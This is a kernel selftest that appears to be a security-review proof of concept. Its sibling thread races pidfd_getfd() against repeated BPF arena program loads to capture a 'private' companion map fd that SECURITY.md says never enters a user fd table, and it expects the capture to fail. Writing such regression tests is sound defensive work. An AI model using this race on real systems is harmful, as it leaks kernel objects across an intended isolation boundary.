// SPDX-License-Identifier: GPL-2.0
/*
 * Review PoC: the "private" fd table of an arena load is reachable by a
 * sibling thread through pidfd_getfd() (ptrace_may_access() always allows
 * the caller's own thread group), which reads task->files of the loader,
 * i.e. the snapshot.  The sibling walks the fd numbers the load creates and
 * keeps the companion map ("never in a user fd table", SECURITY.md).
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "kselftest_harness.h"
#include "bpf_insn.h"
#include "kmod_util.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

struct grab {
	atomic_bool stop;
	int pidfd, base;
	int companion;		/* an fd of the companion, kept */
	long tries, got;
};

static bool map_name(int fd, char *name, uint32_t *id)
{
	struct bpf_map_info info;
	union bpf_attr attr;

	memset(&info, 0, sizeof(info));
	memset(&attr, 0, sizeof(attr));
	attr.info.bpf_fd = fd;
	attr.info.info_len = sizeof(info);
	attr.info.info = ptr_u64(&info);
	if (bpf_sys(BPF_OBJ_GET_INFO_BY_FD, &attr))
		return false;
	memcpy(name, info.name, sizeof(info.name));
	*id = info.id;
	return true;
}

static void *grabber(void *arg)
{
	struct grab *g = arg;
	int k;

	while (!atomic_load(&g->stop) && g->companion < 0) {
		for (k = 0; k < 6; k++) {
			char name[16] = "";
			uint32_t id;
			int fd = syscall(SYS_pidfd_getfd, g->pidfd, g->base + k, 0);

			g->tries++;
			if (fd < 0)
				continue;
			g->got++;
			if (map_name(fd, name, &id) && !strcmp(name, "arena_companion")) {
				g->companion = fcntl(fd, F_DUPFD_CLOEXEC, 500);
				close(fd);
				break;
			}
			close(fd);
		}
	}
	return NULL;
}

#define N_FILL 3000

TEST(pidfd_getfd_reaches_the_snapshot)
{
	static struct bpf_insn insns[N_FILL + 4];
	struct grab g = { .stop = false, .companion = -1 };
	union bpf_attr attr;
	int afd, rounds = 0, loaded = 0, i;
	char name[16] = "";
	uint32_t id = 99;
	pthread_t t;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = 33;
	attr.max_entries = 1;
	attr.map_flags = BPF_F_MMAPABLE;
	afd = bpf_sys(BPF_MAP_CREATE, &attr);
	ASSERT_LE(0, afd);
	afd = fcntl(afd, F_DUPFD_CLOEXEC, 300);
	ASSERT_NE(MAP_FAILED, mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, afd, 0));
	{
		struct bpf_insn head[] = { I_LD_MAP_FD(1, afd) };

		memcpy(insns, head, sizeof(head));
	}
	for (i = 2; i < N_FILL + 2; i++)
		insns[i] = I_MOV64_IMM(0, i);
	insns[i++] = I_MOV64_IMM(0, 0);
	insns[i++] = I_EXIT();
	g.pidfd = syscall(SYS_pidfd_open, getpid(), 0);
	ASSERT_LE(0, g.pidfd);
	g.base = dup(0);
	close(g.base);
	ASSERT_EQ(0, pthread_create(&t, NULL, grabber, &g));
	while (rounds < 400 && g.companion < 0) {
		int pfd = load_syscall_prog(insns, i, NULL, 0);

		rounds++;
		if (pfd >= 0) {
			loaded++;
			close(pfd);
		}
	}
	atomic_store(&g.stop, true);
	pthread_join(t, NULL);
	TH_LOG("%d loads (%d ok), %ld pidfd_getfd tries, %ld fds got, companion fd %d",
	       rounds, loaded, g.tries, g.got, g.companion);
	if (g.companion >= 0) {
		map_name(g.companion, name, &id);
		TH_LOG("kept after the loads: map '%s' id %u", name, id);
	}
	EXPECT_LT(g.companion, 0);
}

TEST_HARNESS_MAIN
